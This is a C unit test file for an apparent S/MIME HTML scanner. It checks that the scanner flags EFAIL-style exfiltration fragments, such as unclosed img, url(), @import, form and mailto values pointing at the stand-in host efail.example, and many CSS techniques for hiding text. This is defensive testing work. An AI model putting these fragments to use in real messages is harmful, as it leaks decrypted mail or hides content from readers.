/* SPDX-License-Identifier: BSD-2-Clause */
#include "smime/coverage.h"
#include "smime/html.h"
#include "smime/html_refs.h"
#include "smime/style.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

static struct as_html_state scan(const char *html)
{
	struct as_html_state state;

	/* A copy of its exact size, so that a read behind it is seen. */
	struct as_span text = as_span_text(html);
	unsigned char *copy = malloc(text.size + 1);

	assert_non_null(copy);
	if (text.size > 0)
		memcpy(copy, text.data, text.size);
	copy = realloc(copy, text.size > 0 ? text.size : 1);
	assert_non_null(copy);
	as_html_scan(as_span_make(copy, text.size), &state);
	free(copy);
	return state;
}

struct leak_case {
	const char *name, *html;
	bool leaks;
};

static void check_leaks(const struct leak_case *cases, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		struct as_html_state state = scan(cases[i].html);

		print_message("case: %s\n", cases[i].name);
		assert_int_equal(state.leaks, cases[i].leaks);
		assert_int_equal(state.leaks_how[0] != '\0', cases[i].leaks);
	}
}

static void an_address_that_is_left_open_leaks(void **state)
{
	static const struct leak_case cases[] = {
		{"double quotes", "<img src=\"http://efail.example/", true},
		{"single quotes", "<img src='http://efail.example/", true},
		{"no quotes", "<img src=http://efail.example/", true},
		{"no scheme", "<img src=\"//efail.example/", true},
		{"backslashes", "<img src=\"\\\\efail.example\\", true},
		{"https in capitals", "<IMG SRC=\"HTTPS://efail.example/", true},
		{"a tab in the scheme", "<img src=\"ht\ttp://efail.example/", true},
		{"blanks in front", "<img src=\" \n http://efail.example/", true},
		{"character references", "<img src=\"&#104;t&#x74;p&colon;//efail.example/", true},
		{"blanks round the equals sign", "<img src \n= \"http://efail.example/", true},
		{"a slash in place of blanks", "<img/src=\"http://efail.example/", true},
		{"behind another attribute", "<p>a</p><img alt=\"a > b\" src='http://x/", true},
		{"a link", "<a href=\"http://efail.example/?", true},
		{"a background", "<table background=\"http://efail.example/", true},
		{"a mailto", "<a href=\"mailto:a@efail.example?body=", true},
		{"a list of images", "<img srcset=\"a.png 1x, http://efail.example/", true},
		{"a refresh", "<meta http-equiv=refresh content=\"0; url=http://x/", true},
		{"a file share", "<img src=\"file://efail.example/", true},
		{"an object", "<object data='ftp://efail.example/", true},
		{"a form's address", "<form action=\"http://efail.example/", true},
		{"an svg image", "<svg><image xlink:href=\"http://efail.example/", true},
		{"a base and nothing", "<base href=\"http://efail.example/\"><img src=\"", true},
		{"a base and a path", "<base href='//x/'><img src='a/", true},
		{"url( in a style", "<div style=\"background:url(http://efail.example/", true},
		{"url( in quotes", "<div style=\"background:url('http://efail.example/", true},
		{"url( with escapes", "<p style=\"background:u\\72 l(h\\74tp://x/", true},
		{"url( in a sheet", "<style>p{background:url(http://efail.example/", true},
		{"an import", "<style>@import \"http://efail.example/", true},
		{"an import without scheme", "<style>@import '//efail.example/", true},
		{"a textarea in a form", "<form action=http://x/><textarea name=a>", true},
		{"a textarea of a form", "<textarea form=f>", true},
		{"an option in a form", "<form action=http://x/><select name=a><option>", true},
	};

	(void)state;
	check_leaks(cases, COUNT(cases));
}

static void html_that_is_closed_leaks_nothing(void **state)
{
	static const struct leak_case cases[] = {
		{"empty", "", false},
		{"text", "Dear Bob", false},
		{"an image", "<p>Hi</p><img src=\"http://example.com/a.png\">", false},
		{"an image without quotes", "<img src=http://example.com/a.png>", false},
		{"elements without end tags", "<html><body><p>Hi<br><img src='http://x/a'>", false},
		{"less than", "if a < b and b > c", false},
		{"an open cid", "<img src=\"cid:a@b", false},
		{"an open data address", "<img src=\"data:image/png;base64,AAAA", false},
		{"an open path without base", "<img src=\"a.png", false},
		{"an open other attribute", "<img alt=\"http://example.com/", false},
		{"a closed style", "<div style=\"background:url(http://x/a.png)\">a</div>", false},
		{"a closed sheet", "<style>@import \"http://x/a.css\";</style>", false},
		{"a sheet without url", "<style>p{color:red", false},
		{"a closed textarea", "<form action=http://x/><textarea></textarea></form>", false},
		{"a textarea without form", "<textarea>", false},
		{"a comment", "<!-- <img src=\"http://x/ -->", false},
		{"an address in brackets", "see <http://example.com/>", false},
		{"an open address in brackets", "see <http://example.com/", false},
	};

	(void)state;
	check_leaks(cases, COUNT(cases));
}

static void what_is_left_open_is_named(void **state)
{
	static const struct {
		const char *name, *html, *element;
		bool tag, start_tag, attribute, comment, raw;
	} cases[] = {
		{"nothing", "<p>a</p>", "", false, false, false, false, false},
		{"a tag", "<p>a</p><img ", "", true, true, false, false, false},
		{"a tag's name", "<img", "", true, true, false, false, false},
		{"an unknown tag", "<someone@example.com", "", true, false, false, false, false},
		{"an end tag", "<p>a</p", "", true, false, false, false, false},
		{"an attribute", "<img alt=\"", "", true, true, true, false, false},
		{"an attribute without value", "<img src=", "", true, true, true, false, false},
		{"a comment", "a<!-- b", "", false, false, false, true, false},
		{"a comment that looks closed", "<!-- -- >", "", false, false, false, true, false},
		{"a comment that is empty", "<!-->", "", false, false, false, false, false},
		{"a comment closed with a mark", "<!-- --!>", "", false, false, false, false,
		 false},
		{"a declaration", "<!doctype", "", false, false, false, true, false},
		{"a condition", "<![if !mso]>a<![endif]>", "", false, false, false, false, false},
		{"a style", "<style>p{}", "style", false, false, false, false, true},
		{"a style with another end tag", "<style></styles>", "style", false, false, false,
		 false, true},
		{"a textarea", "<TEXTAREA>", "textarea", false, false, false, false, true},
		{"a title", "<title>a</title", "title", false, false, false, false, true},
		{"a script", "<script>a</p>", "script", false, false, false, false, true},
		{"plain text", "<plaintext>a</plaintext>", "plaintext", false, false, false, false,
		 true},
		{"a template", "<template>", "template", false, false, false, false, false},
		{"a div that hides", "<div style='display:none'>", "div", false, false, false,
		 false, false},
		{"a div that does not", "<div>", "", false, false, false, false, false},
		{"a div in one that hides", "<div hidden><div></div>", "div", false, false, false,
		 false, false},
		{"a paragraph that ends by itself", "<p hidden>a<p>b", "", false, false, false,
		 false, false},
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct as_html_state got = scan(cases[i].html);

		print_message("case: %s\n", cases[i].name);
		assert_string_equal(got.open_element, cases[i].element);
		assert_int_equal(got.open_tag, cases[i].tag);
		assert_int_equal(got.open_start_tag, cases[i].start_tag);
		assert_int_equal(got.open_attribute, cases[i].attribute);
		assert_int_equal(got.open_comment, cases[i].comment);
		assert_int_equal(got.open_raw, cases[i].raw);
	}
}

static void text_that_is_hidden_is_found(void **state)
{
	static const struct {
		const char *name, *html, *how;
	} cases[] = {
		{"display", "<div style=\"display:none\">a</div>", "display:none"},
		{"display in capitals", "<DIV STYLE='DISPLAY : NONE'>a</DIV>", "display:none"},
		{"important", "<p style='display:none !important'>a", "display:none"},
		{"without quotes", "<p style=display:none>a</p>", "display:none"},
		{"with a comment", "<p style='dis/**/play:no/*x*/ne'>a</p>", "display:none"},
		{"with escapes", "<p style='d\\69splay:n\\6f ne'>a</p>", "display:none"},
		{"with an escape and a comment", "<p style='d\\69/**/splay:none'>a",
		 "display:none"},
		{"with references", "<p style='display&#58;none'>a</p>", "display:none"},
		{"behind a long value",
		 "<p style='a:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
		 "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb;"
		 "display:none'>a</p>",
		 "display:none"},
		{"behind an address", "<p style='a:url(data:x;base64,AA);display:none'>a",
		 "display:none"},
		{"visibility", "<p style='visibility:hidden'>a</p>", "visibility:hidden"},
		{"opacity", "<p style='opacity:0.01'>a</p>", "opacity:0"},
		{"font size", "<p style='font-size:0'>a</p>", "a font size of 0"},
		{"font size of a pixel", "<p style='font-size:1px'>a</p>", "a font size of 0"},
		{"height with overflow", "<p style='height:0;overflow:hidden'>a</p>",
		 "a size of 0"},
		{"position", "<p style='position:absolute;left:-9999px'>a</p>",
		 "a place off the page"},
		{"relative position", "<p style='position:relative;left:-9999px'>a</p>",
		 "a place off the page"},
		{"translation", "<p style='translate:-9999px'>a</p>", "a place off the page"},
		{"content visibility", "<p style='content-visibility:hidden'>a</p>",
		 "content-visibility:hidden"},
		{"scale", "<p style='transform:rotate(9deg) scale(0,1)'>a</p>", "a scale of 0"},
		{"zoom", "<p style='zoom:0'>a</p>", "a scale of 0"},
		{"filter", "<p style='filter:opacity(1%)'>a</p>", "an opacity filter"},
		{"white that is left open", "<p>a</p><font color=white>", "white text"},
		{"indent", "<p style='text-indent:-999em'>a</p>", "a place off the page"},
		{"a layer", "<div style='position:fixed;top:0;z-index:9'>a</div>",
		 "a layer over other text"},
		{"colour on itself", "<p style='color:#fff;background:white'>a</p>",
		 "the colour of its background"},
		{"colour by attributes", "<body text=white bgcolor='#FFFFFF'>a",
		 "the colour of its background"},
		{"no colour", "<p style='color:rgba(1, 2, 3, 0)'>a</p>", "a transparent colour"},
		{"Outlook", "<p style='mso-hide:all'>a</p>", "mso-hide:all"},
		{"the attribute", "<p hidden>a</p>", "the attribute hidden"},
		{"a sheet", "<style>.moz-text-plain{display:none}</style>",
		 "a style sheet that can hide text"},
		{"a sheet with a condition",
		 "<style>@media print{p{color:red}div{visibility:hidden}}</style>",
		 "a style sheet that can hide text"},
		{"a refresh", "<meta http-equiv=Refresh content='0;url=http://x/'>",
		 "a refresh that replaces the text"},
		{"left open", "<div style='display:none'>", "display:none"},
		{"swallowed", "<object>", "an element that is left open"},
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct as_html_state got = scan(cases[i].html);

		print_message("case: %s\n", cases[i].name);
		assert_true(got.hides);
		assert_string_equal(got.hides_how, cases[i].how);
	}
}

static void ordinary_html_hides_nothing(void **state)
{
	static const struct {
		const char *name, *html;
	} cases[] = {
		{"text", "<html><head><title>a</title></head><body><p>Hi</p></body></html>"},
		{"an empty hidden element", "<div style='display:none'></div>"},
		{"a hidden image", "<img style='display:none' src='http://x/a'>text"},
		{"a hidden element with blanks", "<div style='display:none'>&nbsp; &zwnj;</div>"},
		{"a table that sets its font later",
		 "<td style='font-size:0px'><div style='font-size:13px'>a</div></td>"},
		{"a spacer", "<td style='font-size:0;line-height:0'>&nbsp;</td>"},
		{"white on blue", "<td style='color:#fff;background:#00f'>a</td>"},
		{"a width of 1%", "<td style='width:1%;overflow:hidden'>a</td>"},
		{"a sheet", "<style>p{margin:0;display:block}</style><p>a</p>"},
		{"an embedded frame that is closed", "<object data=a>b</object>c"},
		{"full opacity", "<p style='opacity:1'>a"},
		{"nearly full scale", "<p style='transform:scale(0.95);zoom:1'>a"},
		{"a filter", "<p style='filter:opacity(0.9)'>a"},
		{"white on a dark table", "<table bgcolor=#000><td><font color=white>a</font>"},
		{"moved a little", "<p style='position:relative;left:-20px;translate:9px'>a"},
		{"a margin", "<p style='margin-left:-8px;text-indent:-20px'>a"},
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct as_html_state got = scan(cases[i].html);

		print_message("case: %s\n", cases[i].name);
		assert_false(got.hides);
		assert_string_equal(got.hides_how, "");
	}
}

static void what_is_read_is_told_from_what_is_not(void **state)
{
	static const struct {
		const char *name, *html;
		bool visible, any, objects;
	} cases[] = {
		{"nothing", "", false, false, false},
		{"tags only", "<html><body><div><br></div></body></html>", false, false, false},
		{"blanks", "<p>&nbsp;&#8203;\xc2\xa0\xe2\x80\x8b &zwnj;</p>", false, false, false},
		{"a title", "<title>a</title>", false, false, false},
		{"a sheet", "<style>p{}</style>", false, false, false},
		{"text", "<p>a</p>", true, true, false},
		{"a reference", "<p>&euro;</p>", true, true, false},
		{"hidden text", "<p hidden>a</p>", false, true, false},
		{"a field", "<textarea>a</textarea>", true, true, true},
		{"an image", "<img src=a>", false, false, true},
		{"latin 1", "<p>\xe4</p>", true, true, false},
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct as_html_state got = scan(cases[i].html);

		print_message("case: %s\n", cases[i].name);
		assert_int_equal(got.visible_text, cases[i].visible);
		assert_int_equal(got.any_text, cases[i].any);
		assert_int_equal(got.has_objects, cases[i].objects);
	}
}

static void empty_lines_are_counted(void **state)
{
	(void)state;
	assert_int_equal(scan("a<br><br>\n<br>b<br>c").blank_lines, 3);
	assert_int_equal(scan("a<p>&nbsp;</p><p>&nbsp;</p>").blank_lines, 2);
	assert_int_equal(scan("<table><tr><td><div><p></p></div></td></tr></table>").blank_lines,
			 0);
	assert_true(scan("<div style='height:5000px'></div>").pushes);
	assert_true(scan("<img height=4000 src=a>").pushes);
	assert_false(scan("<div style='height:300px;margin:0 auto'>a</div>").pushes);
}

static void references_to_parts_are_found(void **state)
{
	static const struct {
		const char *name, *html, *id;
		bool refers;
	} cases[] = {
		{"plain", "<img src=\"cid:a@b\">", "<a@b>", true},
		{"without brackets", "<img src=\"cid:a@b\">", "a@b", true},
		{"another", "<img src=\"cid:a@bc\">", "<a@b>", false},
		{"a shorter one", "<img src=\"cid:a@\">", "<a@b>", false},
		{"escaped", "<img src=\"cid:a%40b\">", "<a@b>", true},
		{"in capitals", "<img src=\"CID:a@b\">", "<a@b>", true},
		{"references", "<img src=\"&#99;id&colon;a&#64;b\">", "<a@b>", true},
		{"a tab inside", "<img src=\"c\tid:a@b\">", "<a@b>", true},
		{"a style", "<p style=\"background:url(cid:a@b)\">", "<a@b>", true},
		{"at the end", "<img src=cid:a@b", "<a@b>", true},
		{"mid", "<img src=\"mid:m@x/a@b\">", "<a@b>", true},
		{"mid without part", "<img src=\"mid:a@b\">", "<a@b>", false},
		{"nothing wanted", "<img src=\"cid:\">", "<>", false},
	};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		print_message("case: %s\n", cases[i].name);
		assert_int_equal(
			as_html_refers(as_span_text(cases[i].html), as_span_text(cases[i].id)),
			cases[i].refers);
	}
	assert_true(scan("<img src='&#99;id:a'>").has_cid);
	assert_true(scan("<style>p{background:url(cid:a)}</style>").has_cid);
	assert_false(scan("<img src='http://x/cid:a'>").has_cid);
}

static void more_references_than_are_kept_refer_to_everything(void **state)
{
	struct as_arena arena;
	struct as_cids cids;
	char *html = malloc(AS_CIDS_MAX * 24);
	size_t size = 0;

	(void)state;
	assert_non_null(html);
	for (unsigned int i = 0; i <= AS_CIDS_MAX; i++)
		size += (size_t)sprintf(html + size, "<img src=cid:%u>", i);
	as_arena_init(&arena, 1u << 20);
	assert_int_equal(as_cids_collect(&arena, as_span_make(html, size), &cids), 0);
	assert_true(cids.lost);
	assert_true(as_cids_hold(&cids, as_span_text("<other@example>")));
	assert_int_equal(as_cids_collect(&arena, as_span_make(html, size / 2), &cids), 0);
	assert_false(cids.lost);
	assert_true(as_cids_hold(&cids, as_span_text("<100>")));
	assert_false(as_cids_hold(&cids, as_span_text("<other@example>")));
	assert_false(as_cids_hold(&cids, as_span_text("<>")));
	as_arena_deinit(&arena);
	free(html);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(an_address_that_is_left_open_leaks),
		cmocka_unit_test(html_that_is_closed_leaks_nothing),
		cmocka_unit_test(what_is_left_open_is_named),
		cmocka_unit_test(text_that_is_hidden_is_found),
		cmocka_unit_test(ordinary_html_hides_nothing),
		cmocka_unit_test(what_is_read_is_told_from_what_is_not),
		cmocka_unit_test(empty_lines_are_counted),
		cmocka_unit_test(references_to_parts_are_found),
		cmocka_unit_test(more_references_than_are_kept_refer_to_everything),
	};
	return cmocka_run_group_tests_name("smime_html", tests, NULL, NULL);
}
